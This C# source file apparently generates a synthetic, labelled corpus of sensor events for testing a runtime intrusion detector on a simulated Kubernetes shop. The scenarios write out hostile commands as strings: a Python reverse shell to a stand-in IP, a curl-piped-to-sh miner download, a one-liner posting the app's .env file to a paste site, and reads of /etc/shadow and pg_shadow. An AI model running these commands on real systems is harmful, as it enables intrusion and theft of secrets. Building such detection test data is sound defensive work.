using static RuntimeSentinel.Generators.Corpus.SensorJson;

namespace RuntimeSentinel.Generators.Corpus;

/// <summary>The labelled attacks, new and stealthy, acting through the workloads' own calls.</summary>
internal sealed class ShopAttacks(ShopCluster cluster, ShopWorkloads workloads)
{
    private void Label(string scenario, bool stealthy, CorpusWorkload w, CorpusPod pod, DateTimeOffset start, DateTimeOffset end, string description) =>
        cluster.Labels.Add(new CorpusLabel(scenario, stealthy ? "attack-stealthy" : "attack-new", w.Id, [pod.Name], start, end, description));

    /// <summary>The attack due at second <paramref name="s"/> of the stream, if any.</summary>
    public void Second(int s, DateTimeOffset t)
    {
        // Two attacks do not wait for the attack window: one while the workloads still learn, one two minutes into
        // a rolling update (an attacker need not wait for learning, nor for the deploy to settle).
        if (s == 15 * 60)
        {
            WebShellWhileLearning(t);
        }
        else if (s == 42 * 60)
        {
            PrivescAfterRollout(t);
        }

        switch (s - (ShopCorpus.NormalMinutes * 60))
        {
            case 2 * 60: ReverseShell(t); break;
            case 4 * 60: PortSweep(t); break;
            case 6 * 60: ExecIntoDatabase(t); break;
            case 8 * 60: HelperBurst(t); break;
            case 10 * 60: TokenTheft(t); break;
            case 12 * 60: Miner(t); break;
            case 14 * 60: BulkToKnownPeer(t); break;
            case 16 * 60: RedisModule(t); break;
            case 18 * 60: SlowBruteForce(t); break;
            case 20 * 60: workloads.BackupRun(t, 80, 20, "bulk-copy-by-backup"); break;
            case 23 * 60: AdminSession(t); break;
            case 25 * 60: ExfilWithBuiltins(t); break;
            case 27 * 60: DnsTunnel(t); break;
        }
    }

    private void WebShellWhileLearning(DateTimeOffset t)
    {
        var pod = cluster.W("frontend").Running.First();
        var nginx = pod.Processes[1];
        var sh = cluster.Spawn(pod, "/bin/sh", "-c id; cat /etc/shadow", t, nginx, 101, "/");
        cluster.Emit(t, "tetragon", Exec(sh, pod.Node.Name, t));
        var id = cluster.Spawn(pod, "/usr/bin/id", "", t.AddMilliseconds(5), sh, 101);
        cluster.Emit(id.Start, "tetragon", Exec(id, pod.Node.Name, id.Start));
        var cat = cluster.Spawn(pod, "/bin/cat", "/etc/shadow", t.AddMilliseconds(20), sh, 101);
        cluster.Emit(cat.Start, "tetragon", Exec(cat, pod.Node.Name, cat.Start));
        cluster.Emit(cat.Start.AddMilliseconds(2), "tetragon", Kprobe(cat, pod.Node.Name, cat.Start.AddMilliseconds(2), "security_file_permission", "file-monitoring", FileArgs("/etc/shadow", false)));
        Label("webshell-while-learning-frontend", false, cluster.W("frontend"), pod, t, cat.Start.AddSeconds(1), "a vulnerable Lua module gives a shell under nginx 15 minutes after the workload appeared, while it still learns");
    }

    private void PrivescAfterRollout(DateTimeOffset t)
    {
        var pod = cluster.W("frontend").Running.First();
        var nginx = pod.Processes[1];
        cluster.Emit(t, "tetragon", Kprobe(nginx, pod.Node.Name, t, "security_file_permission", "file-monitoring", FileArgs("/tmp/.p", true)));
        var sh = cluster.Spawn(pod, "/bin/sh", "-c chmod +x /tmp/.p && /tmp/.p", t.AddSeconds(1), nginx, 101, "/");
        cluster.Emit(sh.Start, "tetragon", Exec(sh, pod.Node.Name, sh.Start));
        var esc = cluster.Spawn(pod, "/tmp/.p", "", sh.Start.AddMilliseconds(8), sh, 101, "/tmp");
        cluster.Emit(esc.Start, "tetragon", Exec(esc, pod.Node.Name, esc.Start));
        cluster.Emit(esc.Start.AddMilliseconds(3), "tetragon", Kprobe(esc, pod.Node.Name, esc.Start.AddMilliseconds(3), "commit_creds", "privileges-raise", IntArgs(0)));
        Label("privesc-after-rollout-frontend", false, cluster.W("frontend"), pod, t, esc.Start.AddSeconds(1), "two minutes into the frontend's rolling update, an exploit dropped in /tmp raises its privileges in a new pod");
    }

    private void ReverseShell(DateTimeOffset t)
    {
        var pod = cluster.W("api").Running.First();
        var worker = pod.Processes[2];
        var sh = cluster.Spawn(pod, "/bin/sh", "-c python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.66\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'", t, worker, 1000, "/app");
        cluster.Emit(t, "tetragon", Exec(sh, pod.Node.Name, t));
        var py = cluster.Spawn(pod, "/usr/local/bin/python3.11", "-c import socket,os,pty;...", t.AddMilliseconds(5), sh, 1000, "/app");
        cluster.Emit(py.Start, "tetragon", Exec(py, pod.Node.Name, py.Start));
        var conn = new Sock("tcp", pod.Ip, pod.EphemeralPort(), "203.0.113.66", 4444, "TCP_SYN_SENT");
        cluster.Emit(py.Start.AddMilliseconds(10), "tetragon", Kprobe(py, pod.Node.Name, py.Start.AddMilliseconds(10), "tcp_connect", "network-observability", SockArgs(conn)));
        var inner = cluster.Spawn(pod, "/bin/sh", "", py.Start.AddMilliseconds(20), py, 1000, "/app");
        cluster.Emit(inner.Start, "tetragon", Exec(inner, pod.Node.Name, inner.Start));
        var at = inner.Start.AddSeconds(3);
        foreach (var (bin, args) in new[] { ("/usr/bin/id", ""), ("/bin/cat", "/etc/passwd"), ("/bin/ls", "-la /app"), ("/usr/bin/env", "") })
        {
            var p = cluster.Spawn(pod, bin, args, at, inner, 1000, "/app");
            cluster.Emit(at, "tetragon", Exec(p, pod.Node.Name, at));
            at = at.AddSeconds(2);
        }

        cluster.Emit(at, "tetragon", Kprobe(conn.Saddr == pod.Ip ? py : py, pod.Node.Name, at, "tcp_sendmsg", "network-observability", SockArgs(conn with { State = "TCP_ESTABLISHED" }, 4200)));
        Label("reverse-shell-api", false, cluster.W("api"), pod, t, at, "RCE in the api: a shell from gunicorn, Python reverse shell to 203.0.113.66:4444, recon commands");
    }

    private void PortSweep(DateTimeOffset t)
    {
        var pod = cluster.W("worker").Running.First();
        var java = pod.Main;
        var end = t;
        var targets = new[] { "10.244.0.", "10.244.1.", "10.244.2." };
        var n = 0;
        foreach (var prefix in targets)
        {
            foreach (var port in new[] { 22, 80, 443, 2379, 3306, 5432, 6379, 8080, 9200, 10250, 27017 })
            {
                for (var host = 10; host < 14; host++)
                {
                    var at = t.AddMilliseconds(n++ * 250);
                    cluster.Emit(at, "tetragon", Kprobe(java, pod.Node.Name, at, "tcp_connect", "network-observability", SockArgs(new Sock("tcp", pod.Ip, pod.EphemeralPort(), prefix + host, port, "TCP_SYN_SENT"))));
                    end = at;
                }
            }
        }

        Label("port-sweep-worker", true, cluster.W("worker"), pod, t, end, "the worker's JVM (a deserialization RCE) sweeps the pod network for common service ports");
    }

    private void ExecIntoDatabase(DateTimeOffset t)
    {
        var pod = cluster.W("postgres").Running.First();
        var runc = new Proc { Pid = pod.Node.NextHostPid++, Binary = "/usr/bin/runc", Args = "exec --process /tmp/runc-process", Start = t, ExecId = ExecId(pod.Node.Name, t, 4242) };
        var bash = new Proc { Pid = pod.Node.NextHostPid++, ContainerPid = pod.NextContainerPid++, Binary = "/bin/bash", Args = "", Start = t, ExecId = ExecId(pod.Node.Name, t, 4243), Parent = runc, Pod = pod, Uid = 0, Cwd = "/" };
        cluster.Emit(t, "tetragon", Exec(bash, pod.Node.Name, t));
        cluster.Emit(t.AddMilliseconds(20), "falco", Falco("Terminal shell in container", "Notice", "A shell was spawned in a container with an attached terminal", t.AddMilliseconds(20), pod.Node.Name, workloads.FalcoFields(pod, bash, null, null, "execve"), "container", "shell", "mitre_execution"));
        var at = t.AddSeconds(8);
        foreach (var (bin, args) in new[] { ("/usr/bin/id", ""), ("/bin/cat", "/etc/shadow"), ("/usr/lib/postgresql/16/bin/psql", "-U postgres -c select usename, passwd from pg_shadow") })
        {
            var p = cluster.Spawn(pod, bin, args, at, bash, 0);
            cluster.Emit(at, "tetragon", Exec(p, pod.Node.Name, at));
            if (args.Contains("/etc/shadow", StringComparison.Ordinal))
            {
                cluster.Emit(at.AddMilliseconds(2), "tetragon", Kprobe(p, pod.Node.Name, at.AddMilliseconds(2), "security_file_permission", "file-monitoring", FileArgs("/etc/shadow", false)));
            }

            at = at.AddSeconds(5);
        }

        Label("kubectl-exec-root-shell-postgres", false, cluster.W("postgres"), pod, t, at, "an operator's stolen kubeconfig: kubectl exec into postgres-0, a root shell reading /etc/shadow and pg_shadow");
    }

    private void HelperBurst(DateTimeOffset t)
    {
        var pod = cluster.W("api").Running.Last();
        var end = t;
        for (var i = 0; i < 240; i++)
        {
            end = t.AddMilliseconds(i * 500);
            workloads.Helper(pod, pod.Processes[1 + (i % 3)], end);
        }

        Label("helper-burst-api", true, cluster.W("api"), pod, t, end, "a known helper (pdftotext) run 240 times in two minutes: abuse of the invoice endpoint to exhaust the node");
    }

    private void TokenTheft(DateTimeOffset t)
    {
        var pod = cluster.W("frontend").Running.First();
        var nginx = pod.Processes[1];
        cluster.Emit(t, "tetragon", Kprobe(nginx, pod.Node.Name, t, "security_file_permission", "file-monitoring", FileArgs("/var/run/secrets/kubernetes.io/serviceaccount/token", false)));
        workloads.External(pod, nginx, "10.96.0.1", 443, t.AddSeconds(2), 900, 30_000);
        Label("token-theft-frontend", false, cluster.W("frontend"), pod, t, t.AddSeconds(3), "path traversal in a Lua module: the service-account token is read and used against the API server");
    }

    private void Miner(DateTimeOffset t)
    {
        var pod = cluster.W("worker").Running.First();
        var java = pod.Main;
        var sh = cluster.Spawn(pod, "/bin/sh", "-c curl -s http://198.51.100.99/k.sh | sh", t, java, 1000, "/opt/worker");
        cluster.Emit(t, "tetragon", Exec(sh, pod.Node.Name, t));
        var curl = cluster.Spawn(pod, "/usr/bin/curl", "-s http://198.51.100.99/k.sh", t.AddMilliseconds(10), sh, 1000);
        cluster.Emit(curl.Start, "tetragon", Exec(curl, pod.Node.Name, curl.Start));
        workloads.External(pod, curl, "198.51.100.99", 80, curl.Start.AddMilliseconds(5), 200, 4_800_000);
        var drop = curl.Start.AddSeconds(3);
        cluster.Emit(drop, "tetragon", Kprobe(sh, pod.Node.Name, drop, "security_file_permission", "file-monitoring", FileArgs("/tmp/.x/kdevtmpfsi", true)));
        var miner = cluster.Spawn(pod, "/tmp/.x/kdevtmpfsi", "", drop.AddSeconds(1), sh, 1000, "/tmp/.x");
        cluster.Emit(miner.Start, "tetragon", Exec(miner, pod.Node.Name, miner.Start));
        workloads.External(pod, miner, "45.9.148.117", 3333, miner.Start.AddSeconds(1), 3_000, 9_000);
        Label("cryptominer-worker", false, cluster.W("worker"), pod, t, miner.Start.AddSeconds(2), "the worker downloads and runs a miner from /tmp, which connects to a pool on 3333");
    }

    private void BulkToKnownPeer(DateTimeOffset t)
    {
        var pod = cluster.W("api").Running.First();
        var worker = pod.Processes[1];
        var end = t;
        for (var i = 0; i < 12; i++)
        {
            end = t.AddSeconds(i * 10);
            workloads.Resolve(pod, worker, "api.paygate.example", cluster.Paygate, end);
            workloads.External(pod, worker, cluster.Paygate[i % cluster.Paygate.Length], 443, end.AddMilliseconds(2), 4_000_000, 2_000);
        }

        Label("bulk-exfil-known-peer-api", true, cluster.W("api"), pod, t, end.AddSeconds(2), "48 MB sent to the usual payment provider (a compromised webhook target) in two minutes");
    }

    private void RedisModule(DateTimeOffset t)
    {
        var pod = cluster.W("redis").Running.First();
        var redis = pod.Main;
        cluster.Emit(t, "tetragon", Kprobe(redis, pod.Node.Name, t, "security_file_permission", "file-monitoring", FileArgs("/tmp/exp.so", true)));
        cluster.Emit(t.AddSeconds(1), "tetragon", Kprobe(redis, pod.Node.Name, t.AddSeconds(1), "security_file_permission", "file-monitoring", FileArgs("/tmp/exp.so", false)));
        var sh = cluster.Spawn(pod, "/bin/sh", "-c /tmp/.r", t.AddSeconds(2), redis, 999, "/data");
        cluster.Emit(sh.Start, "tetragon", Exec(sh, pod.Node.Name, sh.Start));
        var esc = cluster.Spawn(pod, "/tmp/.r", "", sh.Start.AddMilliseconds(5), sh, 999, "/data");
        cluster.Emit(esc.Start, "tetragon", Exec(esc, pod.Node.Name, esc.Start));
        cluster.Emit(esc.Start.AddMilliseconds(3), "tetragon", Kprobe(esc, pod.Node.Name, esc.Start.AddMilliseconds(3), "__x64_sys_setuid", "privileges-raise", IntArgs(0)));
        cluster.Emit(esc.Start.AddMilliseconds(4), "tetragon", Kprobe(esc, pod.Node.Name, esc.Start.AddMilliseconds(4), "commit_creds", "privileges-raise", IntArgs(0)));
        Label("redis-module-privesc", false, cluster.W("redis"), pod, t, esc.Start.AddSeconds(1), "an exposed Redis loads a malicious module from /tmp; it spawns a shell that raises its privileges");
    }

    private void SlowBruteForce(DateTimeOffset t)
    {
        var pod = cluster.W("worker").Running.First();
        var java = pod.Main;
        var end = t;
        for (var i = 0; i < 40; i++)
        {
            end = t.AddSeconds(i * 3);
            var conn = new Sock("tcp", pod.Ip, pod.EphemeralPort(), cluster.W("postgres").ServiceIp!, 5432, "TCP_SYN_SENT");
            cluster.Emit(end, "tetragon", Kprobe(java, pod.Node.Name, end, "tcp_connect", "network-observability", SockArgs(conn)));
            var pg = cluster.W("postgres").Running.First();
            var accepted = new Sock("tcp", pg.Ip, 5432, pod.Ip, conn.Sport, "TCP_ESTABLISHED");
            cluster.Emit(end.AddMilliseconds(1), "tetragon", Kprobe(pg.Main, pg.Node.Name, end.AddMilliseconds(1), "inet_csk_accept", "network-observability", SockArgs(new Sock("tcp", "0.0.0.0", 5432, "0.0.0.0", 0, "TCP_LISTEN")), accepted));
            cluster.Emit(end.AddMilliseconds(3), "tetragon", Kprobe(pg.Main, pg.Node.Name, end.AddMilliseconds(3), "tcp_sendmsg", "network-observability", SockArgs(accepted, 96)));
            cluster.Emit(end.AddMilliseconds(4), "tetragon", Kprobe(java, pod.Node.Name, end.AddMilliseconds(4), "tcp_close", "network-observability", SockArgs(conn with { State = "TCP_ESTABLISHED" })));
        }

        Label("slow-bruteforce-postgres", true, cluster.W("worker"), pod, t, end, "password guessing against PostgreSQL from the worker: a new connection every 3 s, each refused");
    }

    private void AdminSession(DateTimeOffset t)
    {
        var pg = cluster.W("postgres").Running.First();
        var api = cluster.W("api").Running.First();
        var conn = new Sock("tcp", pg.Ip, 5432, api.Ip, api.EphemeralPort(), "TCP_ESTABLISHED");
        cluster.Emit(t, "tetragon", Kprobe(pg.Main, pg.Node.Name, t, "inet_csk_accept", "network-observability", SockArgs(new Sock("tcp", "0.0.0.0", 5432, "0.0.0.0", 0, "TCP_LISTEN")), conn));
        var end = t;
        for (var i = 0; i < 400; i++)
        {
            end = t.AddMilliseconds(50 + (i * 150));
            cluster.Emit(end, "tetragon", Kprobe(pg.Main, pg.Node.Name, end, "tcp_sendmsg", "network-observability", SockArgs(conn, 65_536)));
            if (i % 10 == 0)
            {
                cluster.Emit(end, "tetragon", Kprobe(pg.Main, pg.Node.Name, end, "security_file_permission", "file-monitoring", FileArgs($"/var/lib/postgresql/data/base/16384/{16_400 + cluster.Random.Next(300)}", false)));
            }
        }

        Label("admin-session-postgres", true, cluster.W("postgres"), pg, t, end, "an interactive session through the api's credentials dumps 26 MB of customer data at a quiet hour");
    }

    private void ExfilWithBuiltins(DateTimeOffset t)
    {
        var pod = cluster.W("api").Running.Last();
        var worker = pod.Processes[3];
        var py = cluster.Spawn(pod, "/usr/local/bin/python3.11", "-c import urllib.request;urllib.request.urlopen('https://paste.drop.example/up', data=open('/app/.env','rb').read())", t, worker, 1000, "/app");
        cluster.Emit(t, "tetragon", Exec(py, pod.Node.Name, t));
        cluster.Emit(t.AddMilliseconds(5), "tetragon", Kprobe(py, pod.Node.Name, t.AddMilliseconds(5), "security_file_permission", "file-monitoring", FileArgs("/app/.env", false)));
        workloads.Resolve(pod, py, "paste.drop.example", ["185.199.110.153"], t.AddMilliseconds(10));
        workloads.External(pod, py, "185.199.110.153", 443, t.AddMilliseconds(20), 90_000, 1_000);
        Label("exfil-builtin-python-api", false, cluster.W("api"), pod, t, t.AddSeconds(2), "the application's secrets posted to a paste site with the interpreter the image already has");
    }

    private void DnsTunnel(DateTimeOffset t)
    {
        var pod = cluster.W("worker").Running.First();
        var java = pod.Main;
        var end = t;
        for (var i = 0; i < 60; i++)
        {
            end = t.AddMilliseconds(i * 900);
            workloads.Resolve(pod, java, $"{cluster.Token(24)}.{cluster.Token(16)}.t.exfil-dns.example", ["192.0.2.1"], end);
        }

        Label("dns-tunnel-worker", false, cluster.W("worker"), pod, t, end, "data leaves through DNS queries to an attacker's zone, one random label after another");
    }
}
